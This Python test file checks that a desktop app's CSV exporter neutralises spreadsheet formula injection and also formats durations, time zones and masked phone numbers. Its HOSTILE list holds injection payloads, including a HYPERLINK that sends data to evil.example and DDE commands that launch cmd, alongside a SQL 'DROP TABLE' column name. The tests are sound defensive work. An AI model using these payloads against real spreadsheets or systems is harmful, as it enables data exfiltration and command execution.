"""Cells as text: what a spreadsheet would take for a formula, broken lines, lengths, moments."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from zoneinfo import ZoneInfo

import numpy as np
import pytest

from desktop_app.core.errors import InputError
from desktop_app.core.history.clock import Clock
from desktop_app.core.history.column import Kind, Value
from desktop_app.core.history.export.cells import Cell, titles
from desktop_app.core.history.export.exporter import Exporter
from desktop_app.core.history.export.request import Durations, Export, Format, Shape, Style
from desktop_app.core.history.query import Query
from desktop_app.core.history.store import Store
from tests.core.history.history_samples import DAY, in_memory, put, stored

NOW = DAY + 3_600_000
QUERY = Query(0, 2**60, clock=Clock(ZoneInfo("Europe/Paris"), lambda: NOW))

PLAIN = Style()

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+A1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-A1",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "  \t=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1',
    "+49-1",
    "+49*2",
    "-5+3",
    "=",
    "+",
    "=\t1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://evil.example","//a")',
]
HARMLESS = [
    "+49 30 23125297",
    "+4930231252",
    "+442079460123 ext 12",
    "-5",
    "-5,25",
    "+7.5",
    "Ana Ruiz",
    "Nguyễn Thị Hạnh",
    "対応完了",
    "سارة المنصور",
    "a=b",
    "a;b,c",
    'he said "no"',
    "it's",
    "👍🏽",
    "…",
    "5",
]


@pytest.fixture
def store() -> Iterator[Store]:
    with in_memory() as made:
        yield made


def written(store: Store, tmp_path: Path, export: Export) -> list[list[str]]:
    exporter = Exporter(store)
    path = tmp_path / "file.csv"
    exporter.write(export, path, now_ms=NOW)
    exporter.close()
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=export.style.separator, strict=True))


def cells_of(
    store: Store, tmp_path: Path, key: str, values: list[Value], style: Style = PLAIN
) -> list[str]:
    put(store, *(
        stored(f"c{place:03}", DAY + place, "{}", **{key: value})
        for place, value in enumerate(values)
    ))  # fmt: skip
    export = Export(replace(QUERY, descending=False), ("conversation_id", key), Format.CSV)
    return [row[1] for row in written(store, tmp_path, replace(export, style=style))[1:]]


@pytest.mark.parametrize("style", [Style(), Style(separator=";", bom=True)])
def test_T36_no_text_is_a_formula(store: Store, tmp_path: Path, style: Style) -> None:
    found = cells_of(store, tmp_path, "subject", list(HOSTILE), style)
    assert len(found) == len(HOSTILE) > 20
    for text, cell in zip(HOSTILE, found, strict=True):
        assert not re.match(r"[=+\-@＝＋－＠\s\0]", cell), cell
        assert re.sub(r"[\s\0\u202e]", "", text) in re.sub(r"\s", "", cell)


def test_T36_numbers_and_words_stay_as_they_are(store: Store, tmp_path: Path) -> None:
    assert cells_of(store, tmp_path, "ani", list(HARMLESS)) == HARMLESS


def test_T36_lists_and_titles_are_guarded_too(store: Store, tmp_path: Path) -> None:
    assert cells_of(store, tmp_path, "queues", [("=1+1", "b"), ("a", "=1+1"), ()]) == [
        "'=1+1 → b",
        "a → =1+1",
        "",
    ]
    export = Export(QUERY, ("attr.=1+1", "attr.+49 30", "attr.a,b", "attr.a;b"), Format.CSV)
    assert written(store, tmp_path, export)[0] == ["'=1+1", "+49 30", "a b", "a;b"]


def test_titles_are_each_their_own() -> None:
    named = {"a": "Start", "attr.Start": "Start", "attr.x": "  ", "b": "a\nb"}
    cells = [Cell(key, title, Kind.TEXT, "x") for key, title in named.items()]
    assert titles(cells) == ["Start", "Start (attr.Start)", "attr.x", "a b"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("two\nlines", "two lines"),
        ("a\tb", "a b"),
        ("a\u2028b", "a b"),
        ("gnp\u202e.exe", "gnp.exe"),
        ("", ""),
        ("\n", ""),
        ("a\xa0b", "a\xa0b"),
    ],
)
def test_a_text_is_one_line(store: Store, tmp_path: Path, text: str, cell: str) -> None:
    assert cells_of(store, tmp_path, "subject", [text]) == [cell]


@pytest.mark.parametrize(
    ("form", "texts"),
    [
        (Durations.CLOCK, ["0:00:00", "0:00:29", "1:02:03", "30:00:00", "-0:00:05", ""]),
        (Durations.SECONDS, ["0.999", "29.0", "3723.004", "108000.0", "-5.0", ""]),
        (Durations.MILLISECONDS, ["999", "29000", "3723004", "108000000", "-5000", ""]),
    ],
)
def test_lengths(store: Store, tmp_path: Path, form: Durations, texts: list[str]) -> None:
    lengths: list[Value] = [999, 29_000, 3_723_004, 108_000_000, -5000, None]
    assert cells_of(store, tmp_path, "handle", lengths, Style(durations=form)) == texts


def test_moments_are_the_zones(store: Store, tmp_path: Path) -> None:
    """Paris put its clocks back on 26 October 2025 at 1:00 UTC."""
    change = 1_761_440_400_000
    moments: list[Value] = [change - 1, change, 2**60, -(2**60), None]
    assert cells_of(store, tmp_path, "end", moments) == [
        "2025-10-26 02:59:59", "2025-10-26 02:00:00", "", "", "",
    ]  # fmt: skip


def test_flags_and_numbers(store: Store, tmp_path: Path) -> None:
    assert cells_of(store, tmp_path, "flagged", [True, False, None]) == ["Yes", "No", ""]


def test_a_selection_keeps_its_order(store: Store, tmp_path: Path) -> None:
    put(store, stored("a"), stored("b"), stored("c"))
    export = Export(QUERY, ("conversation_id",), Format.CSV, numbers=np.array([3, 1]))
    assert written(store, tmp_path, export)[1:] == [["c"], ["a"]]


def test_an_unknown_column_reaches_no_sql(store: Store, tmp_path: Path) -> None:
    with pytest.raises(KeyError):
        written(store, tmp_path, Export(QUERY, ("c_start; DROP TABLE contact",), Format.CSV))


def test_requests_that_make_no_sense_are_told() -> None:
    with pytest.raises(InputError, match="set apart"):
        Style(separator="|")
    with pytest.raises(InputError, match="JSON Lines"):
        Export(QUERY, ("start",), Format.CSV, style=Style(raw=True))
    with pytest.raises(InputError, match="JSON Lines"):
        Export(QUERY, ("start",), Format.JSONL, Shape.LEG, Style(raw=True))
    with pytest.raises(InputError, match="at least one column"):
        Export(QUERY, (), Format.CSV)
    with pytest.raises(InputError, match="by day"):
        Export(QUERY, ("start",), Format.CSV, style=Style(by_day=True))


def test_T45_numbers_are_masked_where_the_policy_says(store: Store, tmp_path: Path) -> None:
    raw = '{"conversationId": "a", "participants": [{"sessions": [{"ani": "tel:+442079460123"}]}]}'
    put(store, stored("a", raw=raw, ani="+442079460123", cc=("a@example.com", "b"),
                      subject="call +44 20 7946 0123"))  # fmt: skip
    exporter = Exporter(store, mask_numbers=True)
    for format in (Format.CSV, Format.JSONL):
        path = tmp_path / f"file.{format}"
        exporter.write(Export(QUERY, ("ani", "cc", "subject"), format), path, now_ms=NOW)
        text = path.read_text()
        assert "7946" not in text and "123" in text and "••••@example.com" in text
    path = tmp_path / "raw.jsonl"
    raw_export = Export(QUERY, (), Format.JSONL, style=Style(raw=True))
    exporter.write(raw_export, path, now_ms=NOW)
    assert "7946" not in path.read_text()
    exporter.close()
